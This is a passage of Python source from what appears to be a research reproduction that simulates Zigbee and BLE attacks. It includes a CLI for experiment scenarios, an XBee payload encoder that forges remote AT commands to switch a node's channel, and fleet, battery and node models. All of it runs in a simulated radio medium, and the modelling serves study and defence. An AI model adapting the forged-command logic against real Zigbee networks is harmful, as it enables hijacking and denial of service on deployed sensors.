    sim.add_argument("--snr", type=float, default=None, help="AWGN SNR in dB")
    sim.add_argument("--bits", type=int, default=2048)

    sub.add_parser("symmetric", help="reverse-pivot (Zigbee→BLE) bound")

    serve = sub.add_parser(
        "serve",
        help="streaming sniffer service over a Unix socket (JSONL + PCAP)",
    )
    serve.add_argument(
        "--socket", required=True, metavar="PATH", help="Unix socket to listen on"
    )
    serve.add_argument("--channel", type=int, default=14)
    serve.add_argument("--seed", type=int, default=1)
    serve.add_argument(
        "--frames",
        type=int,
        default=0,
        help="stop after N transmitted frames (0 = run until SIGTERM)",
    )
    serve.add_argument(
        "--rate",
        type=float,
        default=50.0,
        help="wall-clock pacing in frames/second (0 = flat out)",
    )
    serve.add_argument(
        "--policy",
        default="drop-oldest",
        choices=("block", "drop-oldest", "disconnect-slow"),
        help="default backpressure policy for subscribers that pick none",
    )
    serve.add_argument("--queue-depth", type=int, default=256)
    serve.add_argument("--heartbeat", type=float, default=0.5, metavar="S")
    serve.add_argument("--stall-timeout", type=float, default=2.0, metavar="S")
    serve.add_argument("--idle-timeout", type=float, default=30.0, metavar="S")
    serve.add_argument(
        "--spool", metavar="FILE", default=None, help="crash-safe frame spool"
    )
    serve.add_argument(
        "--replay",
        metavar="SPOOL",
        default=None,
        help="serve a recorded spool instead of the live world",
    )
    serve.add_argument(
        "--chaos",
        default=None,
        metavar="PROFILE",
        help="radio profile (clean, dropout, ...) or service profile "
        "(svc-stall, svc-socket, svc-flood, svc-crash, svc-storm)",
    )
    serve.add_argument(
        "--no-trace-stream",
        action="store_true",
        help="do not forward obs trace events to subscribers",
    )
    _add_obs_args(serve)

    return parser


def _cmd_table1(_args) -> int:
    from repro.experiments.reports import render_table1

    print(render_table1())
    return 0


def _cmd_table2(_args) -> int:
    from repro.experiments.reports import render_table2

    print(render_table2())
    return 0


def _cmd_alg1(_args) -> int:
    from repro.experiments.reports import render_correspondence

    print(render_correspondence())
    return 0


def _cmd_table3(args) -> int:
    from repro.dot15d4.channels import ZIGBEE_CHANNELS
    from repro.experiments.table3 import format_table3, run_table3

    if args.chaos is not None:
        from repro.faults import profile_names

        if args.chaos not in profile_names():
            print(
                f"unknown chaos profile {args.chaos!r}; choose from "
                f"{', '.join(profile_names())}",
                file=sys.stderr,
            )
            return 2
    channels = tuple(args.channels) if args.channels else ZIGBEE_CHANNELS
    if args.workers < 1:
        print("--workers must be >= 1", file=sys.stderr)
        return 2
    if args.wideband:
        from repro.experiments.table3 import run_table3_wideband

        if args.chaos is not None or args.trace is not None:
            print(
                "--wideband does not combine with --chaos or --trace "
                "(the wideband sweep has its own physics path and scoped "
                "per-pair registries)",
                file=sys.stderr,
            )
            return 2
        result = run_table3_wideband(
            frames=args.frames,
            channels=channels,
            chips=tuple(args.chips),
            seed=args.seed,
            mode=args.wideband_mode,
            workers=args.workers,
        )
        print(f"wideband sweep (mode: {args.wideband_mode})")
        print(format_table3(result))
        if args.metrics:
            for (chip, primitive), rows in sorted(result.cells.items()):
                first_channel = min(rows)
                print(f"[metrics {chip}/{primitive} (pair-wide)]")
                for name, value in rows[first_channel].metrics.items():
                    print(f"  {name} = {value}")
        return 0
    result = run_table3(
        frames=args.frames,
        channels=channels,
        chips=tuple(args.chips),
        seed=args.seed,
        fault_profile=args.chaos,
        workers=args.workers,
        collect_trace=args.trace is not None,
    )
    if args.chaos is not None:
        print(f"chaos profile: {args.chaos}")
    print(format_table3(result))
    if args.trace is not None:
        from repro.obs import write_events_jsonl

        events = []
        for (chip, primitive), rows in sorted(result.cells.items()):
            for channel in sorted(rows):
                cell_id = f"{chip}/{primitive}/{channel}"
                for event in rows[channel].trace_events:
                    events.append({**event, "cell": cell_id})
        write_events_jsonl(events, args.trace)
        print(f"trace: {len(events)} events -> {args.trace}")
    if args.metrics:
        for (chip, primitive), rows in sorted(result.cells.items()):
            for channel in sorted(rows):
                print(f"[metrics {chip}/{primitive}/ch{channel}]")
                for name, value in rows[channel].metrics.items():
                    print(f"  {name} = {value}")
    return 0


@contextmanager
def _obs_scope(args) -> Iterator[tuple]:
    """Open a private bus/registry scope with a *streaming* trace writer.

    Unlike the old collect-then-write pattern, ``--trace`` attaches a
    :class:`~repro.obs.JsonlTraceWriter` that flushes each event as it is
    emitted and is closed in ``finally`` — a run that raises mid-
    experiment still leaves a complete, closed JSONL file behind.
    """
    from repro.obs import JsonlTraceWriter, scoped

    with scoped() as (bus, registry):
        writer = JsonlTraceWriter(args.trace, bus) if args.trace is not None else None
        try:
            yield bus, registry
        finally:
            if writer is not None:
                writer.close()
                print(
                    f"trace: {writer.events_written} events -> {args.trace}"
                )


def _print_metrics(args, registry) -> None:
    if args.metrics:
        print("[metrics]")
        print(registry.format())


def _cmd_scenario_a(args) -> int:
    from repro.experiments.scenarios import run_scenario_a

    # The scope opens before the scenario constructs its testbed, so every
    # component binds the command's private bus/registry pair.
    with _obs_scope(args) as (_bus, registry):
        result = run_scenario_a(
            duration_s=args.duration, zigbee_channel=args.channel, seed=args.seed
        )
        print(f"advertising events:        {result.events_total}")
        print(
            f"events on target channel:  {result.events_on_target} "
            f"(hit rate {result.hit_rate:.4f}, CSA#2 expectation 0.0270)"
        )
        print(f"forged readings displayed: {result.injected_received}")
        _print_metrics(args, registry)
    return 0 if result.injected_received else 1


def _cmd_scenario_b(args) -> int:
    from repro.attacks.scenario_b import AttackPhase
    from repro.experiments.scenarios import run_scenario_b

    with _obs_scope(args) as (_bus, registry):
        result = run_scenario_b(
            duration_s=args.duration,
            dos_channel=args.dos_channel,
            seed=args.seed,
            security_key=bytes(range(16)) if args.secure else None,
        )
        for line in result.log:
            print(line)
        print(f"final phase:          {result.final_phase.value}")
        print(f"sensor channel after: {result.sensor_channel_after}")
        print(
            f"display entries:      {result.legitimate_entries} legitimate, "
            f"{result.spoofed_entries} spoofed"
        )
        _print_metrics(args, registry)
    attack_succeeded = (
        result.final_phase is AttackPhase.DONE
        and result.sensor_channel_after == args.dos_channel
    )
    if args.secure:
        return 0 if not attack_succeeded else 1
    return 0 if attack_succeeded else 1


def _cmd_serve(args) -> int:
    import os
    import signal
    import time

    from repro.faults import profile_names, service_profile_names
    from repro.serve import ServeConfig, SnifferServer

    chaos = service_chaos = None
    if args.chaos is not None:
        if args.chaos in service_profile_names():
            service_chaos = args.chaos
        elif args.chaos in profile_names():
            chaos = args.chaos
        else:
            print(
                f"unknown chaos profile {args.chaos!r}; choose from "
                f"{', '.join(profile_names() + service_profile_names())}",
                file=sys.stderr,
            )
            return 2
    config = ServeConfig(
        socket_path=args.socket,
        channel=args.channel,
        seed=args.seed,
        frames=args.frames,
        rate_fps=args.rate,
        chaos=chaos,
        service_chaos=service_chaos,
        forward_trace=not args.no_trace_stream,
        queue_depth=args.queue_depth,
        default_policy=args.policy,
        heartbeat_s=args.heartbeat,
        stall_timeout_s=args.stall_timeout,
        idle_timeout_s=args.idle_timeout,
        spool_path=args.spool,
        replay_path=args.replay,
    )
    with _obs_scope(args) as (_bus, registry):
        server = SnifferServer(config)

        def _on_signal(_signum, _frame):
            server.request_shutdown()

        # SIGTERM/SIGINT begin the drain: stop producing, flush every
        # subscriber's queue, finalise the spool — never a torn stream.
        previous = {
            sig: signal.signal(sig, _on_signal)
            for sig in (signal.SIGTERM, signal.SIGINT)
        }
        try:
            server.start()
            print(f"serving on {args.socket} (pid {os.getpid()})")
            sys.stdout.flush()
            while not server.stop_event.is_set():
                if server.source_finished:
                    break
                time.sleep(0.1)
            ledger = server.shutdown(drain=True)
        finally:
            for sig, handler in previous.items():
                signal.signal(sig, handler)
        print(f"produced:  {ledger['produced']} frames")
        print(f"spooled:   {ledger['spooled']} records")
        print(f"shed:      {ledger['shed']}")
        for name, entry in sorted(ledger["sessions"].items()):
            print(
                f"session {name}: {entry['delivered']} delivered, "
                f"{entry['dropped']} dropped, {entry['shed']} shed "
                f"({entry['policy']}, close={entry['close_reason']})"
            )
        _print_metrics(args, registry)
    if server.failed_stage is not None:
        print(f"stage {server.failed_stage!r} exhausted its restarts", file=sys.stderr)
        return 1
    return 0


def _cmd_fleet(args) -> int:
    from repro.experiments.fleet import format_fleet_report, run_fleet_campaign
    from repro.zigbee.fleet import make_fleet

    if args.chaos is not None:
        from repro.faults import profile_names

        if args.chaos not in profile_names():
            print(
                f"unknown chaos profile {args.chaos!r}; choose from "
                f"{', '.join(profile_names())}",
                file=sys.stderr,
            )
            return 2
        if args.workers > 1:
            print("--chaos requires --workers 1", file=sys.stderr)
            return 2
    if args.workers < 1:
        print("--workers must be >= 1", file=sys.stderr)
        return 2
    spec = make_fleet(
        num_nodes=args.nodes,
        num_pans=args.pans,
        seed=args.seed,
        mesh=not args.no_mesh,
        channel_reuse=args.channel_reuse,
    )
    with _obs_scope(args) as (_bus, registry):
        result = run_fleet_campaign(
            spec,
            duration_s=args.duration,
            attack=not args.no_attack,
            flood_rate_hz=args.flood_rate,
            medium_kind=args.medium,
            workers=args.workers,
            sample_interval_s=args.sample_interval,
            chaos=args.chaos,
        )
        print(format_fleet_report(result))
        _print_metrics(args, registry)
    return 0 if result.ledger_balanced else 1


def _cmd_similarity(args) -> int:
    from repro.core.similarity import similarity_matrix, viable_pivots
    from repro.experiments.reports import render_similarity_matrix

    matrix = similarity_matrix(num_bits=args.bits, snr_db=args.snr)
    print(render_similarity_matrix(matrix))
    print()
    for tx, rx, ber in viable_pivots(matrix):
        print(f"viable pivot: {tx} -> {rx} (BER {ber:.4f})")
    return 0


def _cmd_symmetric(_args) -> int:
    from repro.experiments.symmetric import attempt_symmetric_pivot

    result = attempt_symmetric_pivot()
    print(f"target on-air bits:    {result.target_bits}")
    print(
        f"best achievable match: {result.matched_bits} "
        f"({result.match_fraction:.1%})"
    )
    print(f"BLE sync-word fired:   {result.sync_found}")
    print(f"BLE CRC accepted:      {result.crc_ok}")
    return 0


_COMMANDS = {
    "table1": _cmd_table1,
    "table2": _cmd_table2,
    "alg1": _cmd_alg1,
    "table3": _cmd_table3,
    "fleet": _cmd_fleet,
    "scenario-a": _cmd_scenario_a,
    "scenario-b": _cmd_scenario_b,
    "similarity": _cmd_similarity,
    "symmetric": _cmd_symmetric,
    "serve": _cmd_serve,
}


def main(argv: Optional[List[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    return _COMMANDS[args.command](args)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
