"""XBee application payload formats.

Digi's XBee modules expose an AT-command configuration interface that can be
driven *remotely* over the air; Vaccari et al. ("Remotely exploiting AT
command attacks on Zigbee networks", 2017 — the paper's [28]) showed that an
unauthenticated remote AT command can rewrite a node's configuration, e.g.
force it onto another channel.  Scenario B forges exactly that frame with
the coordinator's address as source.

The payload encodings here are simplified but structurally faithful: a
one-byte application frame type, followed by type-specific fields.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import IntEnum
from typing import Optional

__all__ = [
    "XBEE_DEFAULTS",
    "AppFrameType",
    "AtCommand",
    "RemoteAtCommand",
    "SensorReading",
    "parse_app_payload",
]


@dataclass(frozen=True)
class XBeeDefaults:
    """Factory defaults relevant to the attack."""

    remote_at_enabled: bool = True
    channel: int = 14
    pan_id: int = 0x1234


XBEE_DEFAULTS = XBeeDefaults()


class AppFrameType(IntEnum):
    SENSOR_READING = 0x10
    REMOTE_AT_COMMAND = 0x17  # matches Digi's API frame type for remote AT
    REMOTE_AT_RESPONSE = 0x97


class AtCommand:
    """Two-letter AT command names used by the scenario."""

    CHANNEL = b"CH"
    PAN_ID = b"ID"
    WRITE = b"WR"


@dataclass
class RemoteAtCommand:
    """A remote AT command: change a named setting on another node."""

    command: bytes
    parameter: bytes = b""
    frame_id: int = 1
    apply_changes: bool = True

    def __post_init__(self) -> None:
        if len(self.command) != 2:
            raise ValueError("AT command names are two ASCII letters")

    def to_payload(self) -> bytes:
        options = 0x02 if self.apply_changes else 0x00
        return (
            bytes([AppFrameType.REMOTE_AT_COMMAND, self.frame_id & 0xFF, options])
            + self.command
            + self.parameter
        )

    @staticmethod
    def from_payload(payload: bytes) -> "RemoteAtCommand":
        if len(payload) < 5 or payload[0] != AppFrameType.REMOTE_AT_COMMAND:
            raise ValueError("not a remote AT command payload")
        return RemoteAtCommand(
            command=bytes(payload[3:5]),
            parameter=bytes(payload[5:]),
            frame_id=payload[1],
            apply_changes=bool(payload[2] & 0x02),
        )


@dataclass
class SensorReading:
    """The sensor's periodic report: a counter and a value (temperature)."""

    counter: int
    value: int

    def to_payload(self) -> bytes:
        return (
            bytes([AppFrameType.SENSOR_READING])
            + (self.counter & 0xFFFF).to_bytes(2, "little")
            + (self.value & 0xFFFF).to_bytes(2, "little")
        )

    @staticmethod
    def from_payload(payload: bytes) -> "SensorReading":
        if len(payload) != 5 or payload[0] != AppFrameType.SENSOR_READING:
            raise ValueError("not a sensor reading payload")
        return SensorReading(
            counter=int.from_bytes(payload[1:3], "little"),
            value=int.from_bytes(payload[3:5], "little"),
        )


def parse_app_payload(payload: bytes):
    """Decode an application payload to its dataclass, or ``None``."""
    if not payload:
        return None
    kind = payload[0]
    try:
        if kind == AppFrameType.SENSOR_READING:
            return SensorReading.from_payload(payload)
        if kind == AppFrameType.REMOTE_AT_COMMAND:
            return RemoteAtCommand.from_payload(payload)
    except ValueError:
        return None
    return None
