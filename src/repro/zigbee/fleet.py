"""Fleet topology layer: many XBee nodes, many PANs, one medium.

The paper's attack scenarios live in two-node demos; realistic deployments
are buildings full of sensors.  This module builds parametric fleets —
hundreds of nodes across multiple PANs, each PAN a spatial cluster with a
mains-powered coordinator, optional battery-powered routers (one-hop mesh)
and battery-powered sensors reporting on a staggered schedule — as frozen
*specs* first, then instantiates them onto any medium.

Everything about a spec is a pure function of its parameters and seed:
node names, addresses, positions, phases and routing are computed
deterministically (per-PAN streams keyed by PAN index), so the same spec
instantiated on a dense medium, a sharded medium, or inside a worker
process produces the same fleet.
"""

from __future__ import annotations

import math
from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

import numpy as np

from repro.dot15d4.frames import Address
from repro.radio.medium import RfMedium
from repro.zigbee.energy import Battery
from repro.zigbee.network import (
    CoordinatorNode,
    RouterNode,
    SensorNode,
    XBeeNode,
)

__all__ = [
    "FleetNodeSpec",
    "PanSpec",
    "FleetSpec",
    "Fleet",
    "make_fleet",
    "build_fleet",
]

#: Default fleet sample rate: 2 samples/chip keeps the DSP per delivered
#: frame ~4x cheaper than the 16 Msps experiment default, which is what
#: makes hundreds of nodes tractable.  Must stay a multiple of 2 MHz
#: (integer samples per chip).
FLEET_SAMPLE_RATE = 4e6

#: Default interaction radius.  Must cover the longest intra-PAN link
#: (sensor ↔ router ↔ coordinator, at most the cluster diameter); kept
#: well under the inter-cluster spacing so co-channel PANs are spatially
#: independent.
FLEET_RANGE_CUTOFF_M = 15.0

COORDINATOR_ADDRESS = 0x0001
ROUTER_ADDRESS_BASE = 0x0100
SENSOR_ADDRESS_BASE = 0x0200


@dataclass(frozen=True)
class FleetNodeSpec:
    """One node of a fleet, fully determined before construction."""

    name: str
    pan_id: int
    address: int
    role: str  # "coordinator" | "router" | "sensor"
    position: Tuple[float, float]
    uplink: Optional[int] = None  # in-PAN short address reports go to
    report_interval_s: float = 1.0
    phase_s: float = 0.0
    battery_j: Optional[float] = None  # None = mains powered


@dataclass(frozen=True)
class PanSpec:
    """One PAN: a channel, a cluster centre and its member nodes."""

    pan_id: int
    channel: int
    center: Tuple[float, float]
    nodes: Tuple[FleetNodeSpec, ...]

    @property
    def coordinator(self) -> FleetNodeSpec:
        return next(n for n in self.nodes if n.role == "coordinator")


@dataclass(frozen=True)
class FleetSpec:
    """A whole fleet plus the medium parameters it was sized for."""

    seed: int
    pans: Tuple[PanSpec, ...]
    sample_rate: float = FLEET_SAMPLE_RATE
    range_cutoff_m: float = FLEET_RANGE_CUTOFF_M

    @property
    def num_nodes(self) -> int:
        return sum(len(pan.nodes) for pan in self.pans)

    @property
    def diameter_m(self) -> float:
        """An upper bound on the largest pairwise node distance."""
        xs = [n.position[0] for pan in self.pans for n in pan.nodes]
        ys = [n.position[1] for pan in self.pans for n in pan.nodes]
        if not xs:
            return 0.0
        return math.hypot(max(xs) - min(xs), max(ys) - min(ys))


def make_fleet(
    num_nodes: int = 24,
    num_pans: int = 2,
    seed: int = 0,
    mesh: bool = True,
    channel_reuse: bool = False,
    base_channel: int = 11,
    report_interval_s: float = 1.0,
    battery_j: float = 0.05,
    cluster_spacing_m: float = 60.0,
    cluster_radius_m: float = 6.0,
    sample_rate: float = FLEET_SAMPLE_RATE,
    range_cutoff_m: float = FLEET_RANGE_CUTOFF_M,
) -> FleetSpec:
    """Build a deterministic fleet spec.

    PAN clusters sit on a square grid ``cluster_spacing_m`` apart; each has
    a mains-powered coordinator at its centre, battery-powered sensors
    scattered inside ``cluster_radius_m``, and (``mesh=True``) one router
    per ~8 members relaying half the sensors' reports.  ``channel_reuse``
    puts every PAN on ``base_channel`` (spatial-reuse workload — the
    interesting case for a sharded medium); otherwise PANs cycle through
    the 16 Zigbee channels so they are spectrally disjoint.
    """
    if num_nodes < 2 * num_pans:
        raise ValueError("need at least a coordinator and a sensor per PAN")
    grid = math.ceil(math.sqrt(num_pans))
    pans: List[PanSpec] = []
    base, extra = divmod(num_nodes, num_pans)
    for p in range(num_pans):
        count = base + (1 if p < extra else 0)
        pan_id = 0x1000 + p
        channel = base_channel if channel_reuse else base_channel + (p % 16)
        center = (
            (p % grid) * cluster_spacing_m,
            (p // grid) * cluster_spacing_m,
        )
        rng = np.random.default_rng(
            np.random.SeedSequence(entropy=seed, spawn_key=(p,))
        )
        num_routers = max(1, (count - 1) // 8) if mesh and count >= 4 else 0
        num_sensors = count - 1 - num_routers
        nodes: List[FleetNodeSpec] = [
            FleetNodeSpec(
                name=f"p{p:02d}-coord",
                pan_id=pan_id,
                address=COORDINATOR_ADDRESS,
                role="coordinator",
                position=center,
            )
        ]
        for j in range(num_routers):
            angle = 2.0 * math.pi * j / num_routers
            r = 0.5 * cluster_radius_m
            nodes.append(
                FleetNodeSpec(
                    name=f"p{p:02d}-r{j:02d}",
                    pan_id=pan_id,
                    address=ROUTER_ADDRESS_BASE + j,
                    role="router",
                    position=(
                        round(center[0] + r * math.cos(angle), 3),
                        round(center[1] + r * math.sin(angle), 3),
                    ),
                    uplink=COORDINATOR_ADDRESS,
                    battery_j=battery_j,
                )
            )
        for k in range(num_sensors):
            angle = 2.0 * math.pi * k / max(1, num_sensors)
            r = float(rng.uniform(0.4, 1.0)) * cluster_radius_m
            # Alternate sensors between direct star links and the mesh
            # relays so both paths carry traffic.
            if num_routers and k % 2 == 1:
                uplink = ROUTER_ADDRESS_BASE + (k // 2) % num_routers
            else:
                uplink = COORDINATOR_ADDRESS
            nodes.append(
                FleetNodeSpec(
                    name=f"p{p:02d}-s{k:03d}",
                    pan_id=pan_id,
                    address=SENSOR_ADDRESS_BASE + k,
                    role="sensor",
                    position=(
                        round(center[0] + r * math.cos(angle), 3),
                        round(center[1] + r * math.sin(angle), 3),
                    ),
                    uplink=uplink,
                    report_interval_s=report_interval_s,
                    phase_s=round(
                        report_interval_s * k / max(1, num_sensors), 6
                    ),
                    battery_j=battery_j,
                )
            )
        pans.append(
            PanSpec(
                pan_id=pan_id,
                channel=channel,
                center=center,
                nodes=tuple(nodes),
            )
        )
    return FleetSpec(
        seed=seed,
        pans=tuple(pans),
        sample_rate=sample_rate,
        range_cutoff_m=range_cutoff_m,
    )


class Fleet:
    """A spec instantiated onto a medium: live nodes, ready to start."""

    def __init__(self, spec: FleetSpec, medium: RfMedium):
        self.spec = spec
        self.medium = medium
        self.nodes: Dict[str, XBeeNode] = {}
        self.by_pan: Dict[int, List[XBeeNode]] = {}
        self.coordinators: Dict[int, CoordinatorNode] = {}
        for pan in spec.pans:
            members: List[XBeeNode] = []
            for ns in pan.nodes:
                node = self._build_node(pan, ns, medium)
                node.radio.set_channel(pan.channel)
                self.nodes[ns.name] = node
                members.append(node)
            self.by_pan[pan.pan_id] = members

    @staticmethod
    def _build_node(
        pan: PanSpec, ns: FleetNodeSpec, medium: RfMedium
    ) -> XBeeNode:
        address = Address(pan_id=ns.pan_id, address=ns.address)
        battery = (
            Battery(capacity_j=ns.battery_j) if ns.battery_j is not None else None
        )
        if ns.role == "coordinator":
            return CoordinatorNode(
                medium,
                address,
                name=ns.name,
                position=ns.position,
                battery=battery,
            )
        if ns.role == "router":
            return RouterNode(
                medium,
                address,
                uplink=Address(pan_id=ns.pan_id, address=ns.uplink),
                name=ns.name,
                position=ns.position,
                battery=battery,
            )
        if ns.role == "sensor":
            return SensorNode(
                medium,
                address,
                coordinator=Address(
                    pan_id=ns.pan_id, address=COORDINATOR_ADDRESS
                ),
                uplink=Address(pan_id=ns.pan_id, address=ns.uplink),
                name=ns.name,
                position=ns.position,
                report_interval_s=ns.report_interval_s,
                phase_s=ns.phase_s,
                battery=battery,
            )
        raise ValueError(f"unknown role {ns.role!r}")

    @property
    def sensors(self) -> List[SensorNode]:
        return [n for n in self.nodes.values() if isinstance(n, SensorNode)]

    @property
    def routers(self) -> List[RouterNode]:
        return [n for n in self.nodes.values() if isinstance(n, RouterNode)]

    def start_all(self) -> None:
        for node in self.nodes.values():
            node.start()

    def stop_all(self) -> None:
        for node in self.nodes.values():
            node.stop()


def build_fleet(spec: FleetSpec, medium: RfMedium) -> Fleet:
    """Instantiate *spec* onto *medium* (nodes constructed, not started)."""
    if medium.sample_rate != spec.sample_rate:
        raise ValueError(
            f"medium sample rate {medium.sample_rate} differs from fleet "
            f"spec rate {spec.sample_rate}"
        )
    fleet = Fleet(spec, medium)
    for pan in spec.pans:
        coord = fleet.nodes[pan.coordinator.name]
        assert isinstance(coord, CoordinatorNode)
        fleet.coordinators[pan.pan_id] = coord
    return fleet
