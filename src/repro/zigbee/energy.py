"""Battery model for sleepy 802.15.4 end devices.

Supports the Ghost-in-Zigbee energy-depletion attack ([30] in the paper,
listed in §VII as a residual risk even on encrypted networks): every radio
activity — transmitting a frame, waking to process a received one —
draws from a finite budget.  Numbers follow a typical 2.4 GHz SoC
(TX ≈ 90 mW, RX ≈ 60 mW at 3 V) plus a fixed wake-up cost per processed
frame; the battery capacity is configurable so simulations can exhaust it
in seconds instead of years.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Tuple

__all__ = ["EnergyProfile", "Battery"]


@dataclass(frozen=True)
class EnergyProfile:
    """Power draw characteristics."""

    tx_power_w: float = 0.090
    rx_power_w: float = 0.060
    wakeup_cost_j: float = 0.2e-3

    def cost(self, kind: str, duration_s: float) -> float:
        if kind == "tx":
            return self.tx_power_w * duration_s
        if kind == "rx":
            return self.rx_power_w * duration_s + self.wakeup_cost_j
        raise ValueError(f"unknown activity kind {kind!r}")


@dataclass
class Battery:
    """A finite energy budget with an activity ledger."""

    capacity_j: float
    profile: EnergyProfile = field(default_factory=EnergyProfile)
    consumed_j: float = 0.0
    ledger: List[Tuple[str, float]] = field(default_factory=list)

    def charge_activity(self, kind: str, duration_s: float) -> None:
        """Record one radio activity (no-op once depleted)."""
        if self.depleted:
            return
        cost = self.profile.cost(kind, duration_s)
        self.consumed_j = min(self.capacity_j, self.consumed_j + cost)
        self.ledger.append((kind, cost))

    @property
    def remaining_j(self) -> float:
        return max(0.0, self.capacity_j - self.consumed_j)

    @property
    def depleted(self) -> bool:
        return self.consumed_j >= self.capacity_j

    @property
    def fraction_remaining(self) -> float:
        return self.remaining_j / self.capacity_j if self.capacity_j else 0.0

    def consumed_by(self, kind: str) -> float:
        return sum(cost for k, cost in self.ledger if k == kind)
