"""The target Zigbee network of §VI-A.

Two XBee nodes on channel 14, PAN 0x1234: a sensor end device (0x0063)
reporting a value every two seconds, and a coordinator (0x0042) that
acknowledges the reports and appends them to a display log (the paper's
"HTML graph").  Both honour unauthenticated remote AT commands — the
default configuration the attack exploits.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, List, Optional, Tuple

import numpy as np

from repro.chips.rzusbstick import Dot15d4Radio
from repro.dot15d4.frames import Address, MacFrame
from repro.dot15d4.mac import MacService
from repro.dot15d4.security import SecurityContext
from repro.radio.medium import RfMedium
from repro.zigbee.energy import Battery
from repro.zigbee.xbee import (
    AtCommand,
    RemoteAtCommand,
    SensorReading,
    XBEE_DEFAULTS,
    parse_app_payload,
)

__all__ = [
    "XBeeNode",
    "SensorNode",
    "RouterNode",
    "CoordinatorNode",
    "DisplayEntry",
]


class XBeeNode:
    """Common XBee behaviour: MAC service + remote AT command handling."""

    def __init__(
        self,
        medium: RfMedium,
        address: Address,
        name: str,
        position: Tuple[float, float] = (0.0, 0.0),
        is_coordinator: bool = False,
        remote_at_enabled: bool = XBEE_DEFAULTS.remote_at_enabled,
        rng: Optional[np.random.Generator] = None,
        security: Optional[SecurityContext] = None,
        battery: Optional[Battery] = None,
    ):
        self.radio = Dot15d4Radio(medium, name=name, position=position, rng=rng)
        self.radio.set_channel(XBEE_DEFAULTS.channel)
        self.mac = MacService(
            self.radio,
            address=address,
            is_coordinator=is_coordinator,
            security=security,
        )
        self.address = address
        self.name = name
        self.remote_at_enabled = remote_at_enabled
        self.config_log: List[str] = []
        self.battery = battery
        #: Simulated time the battery ran out (None while alive) — the
        #: per-node datum behind fleet network-lifetime curves.
        self.depleted_at: Optional[float] = None
        if battery is not None:
            self.radio.activity_listener = self._charge_battery
        self.mac.on_data(self._on_data)

    def _charge_battery(self, kind: str, duration_s: float) -> None:
        assert self.battery is not None
        self.battery.charge_activity(kind, duration_s)
        if self.battery.depleted and self.depleted_at is None:
            self.depleted_at = self.scheduler.now
            self.config_log.append("battery depleted — node dead")
            self.stop()

    @property
    def scheduler(self):
        return self.radio.transceiver.medium.scheduler

    def start(self) -> None:
        self.mac.start()

    def stop(self) -> None:
        self.mac.stop()

    # -- application dispatch -------------------------------------------------
    def _on_data(self, frame: MacFrame) -> None:
        app = parse_app_payload(frame.payload)
        if isinstance(app, RemoteAtCommand):
            self._handle_remote_at(frame, app)
        else:
            self.handle_application(frame, app)

    def handle_application(self, frame: MacFrame, app) -> None:
        """Hook for subclasses."""

    def _handle_remote_at(self, frame: MacFrame, command: RemoteAtCommand) -> None:
        if not self.remote_at_enabled:
            self.config_log.append(f"rejected remote AT {command.command!r}")
            return
        if command.command == AtCommand.CHANNEL and command.parameter:
            new_channel = command.parameter[0]
            self.config_log.append(
                f"remote AT CH: channel {self.radio.channel} -> {new_channel}"
            )
            self.radio.set_channel(new_channel)
        elif command.command == AtCommand.PAN_ID and len(command.parameter) >= 2:
            new_pan = int.from_bytes(command.parameter[:2], "little")
            self.config_log.append(f"remote AT ID: pan -> {new_pan:#06x}")
            self.mac.address = Address(
                pan_id=new_pan, address=self.address.address
            )
            self.address = self.mac.address
        else:
            self.config_log.append(f"remote AT {command.command!r} ignored")


class SensorNode(XBeeNode):
    """The end device: reports ``value`` every *report_interval_s*.

    ``uplink`` is where reports go — the coordinator in a star topology, a
    :class:`RouterNode` one hop up in a mesh.  ``phase_s`` offsets the
    first report so a fleet of sensors sharing an interval does not
    synchronise into one periodic collision storm.
    """

    def __init__(
        self,
        medium: RfMedium,
        address: Address,
        coordinator: Address,
        name: str = "xbee-sensor",
        position: Tuple[float, float] = (0.0, 0.0),
        report_interval_s: float = 2.0,
        phase_s: float = 0.0,
        uplink: Optional[Address] = None,
        value_source: Optional[Callable[[], int]] = None,
        rng: Optional[np.random.Generator] = None,
        security: Optional[SecurityContext] = None,
        battery: Optional[Battery] = None,
    ):
        super().__init__(
            medium,
            address,
            name,
            position=position,
            rng=rng,
            security=security,
            battery=battery,
        )
        self.coordinator = coordinator
        self.uplink = uplink if uplink is not None else coordinator
        self.report_interval_s = report_interval_s
        self.phase_s = phase_s
        self.value_source = value_source or (lambda: 21)
        self.counter = 0
        self.reports_sent = 0
        self.reports_delivered = 0
        self.reports_dropped = 0
        self._running = False

    def start(self) -> None:
        super().start()
        if not self._running:
            self._running = True
            self.scheduler.schedule(
                self.report_interval_s + self.phase_s, self._report
            )

    def stop(self) -> None:
        self._running = False
        super().stop()

    def _report(self) -> None:
        if not self._running:
            return
        self.counter = (self.counter + 1) & 0xFFFF
        reading = SensorReading(counter=self.counter, value=self.value_source())
        self.mac.send_data(
            self.uplink, reading.to_payload(), on_result=self._report_result
        )
        self.reports_sent += 1
        self.scheduler.schedule(self.report_interval_s, self._report)

    def _report_result(self, sequence: int, delivered: bool) -> None:
        if delivered:
            self.reports_delivered += 1
        else:
            self.reports_dropped += 1


class RouterNode(XBeeNode):
    """A one-hop mesh relay: re-addresses sensor readings to its uplink.

    Zigbee proper routes at the NWK layer; this router models the piece
    that matters for medium-scale dynamics — every forwarded report costs
    a second MAC transaction (CSMA-CA, ACK, retries) and a second slice of
    somebody's battery.
    """

    def __init__(
        self,
        medium: RfMedium,
        address: Address,
        uplink: Address,
        name: str = "xbee-router",
        position: Tuple[float, float] = (0.0, 0.0),
        rng: Optional[np.random.Generator] = None,
        security: Optional[SecurityContext] = None,
        battery: Optional[Battery] = None,
    ):
        super().__init__(
            medium,
            address,
            name,
            position=position,
            rng=rng,
            security=security,
            battery=battery,
        )
        self.uplink = uplink
        self.forwarded = 0
        self.forward_delivered = 0
        self.forward_dropped = 0

    def handle_application(self, frame: MacFrame, app) -> None:
        if isinstance(app, SensorReading) and frame.source is not None:
            self.forwarded += 1
            self.mac.send_data(
                self.uplink, app.to_payload(), on_result=self._forward_result
            )

    def _forward_result(self, sequence: int, delivered: bool) -> None:
        if delivered:
            self.forward_delivered += 1
        else:
            self.forward_dropped += 1


@dataclass
class DisplayEntry:
    """One point on the coordinator's "HTML graph"."""

    time: float
    counter: int
    value: int
    source: int


class CoordinatorNode(XBeeNode):
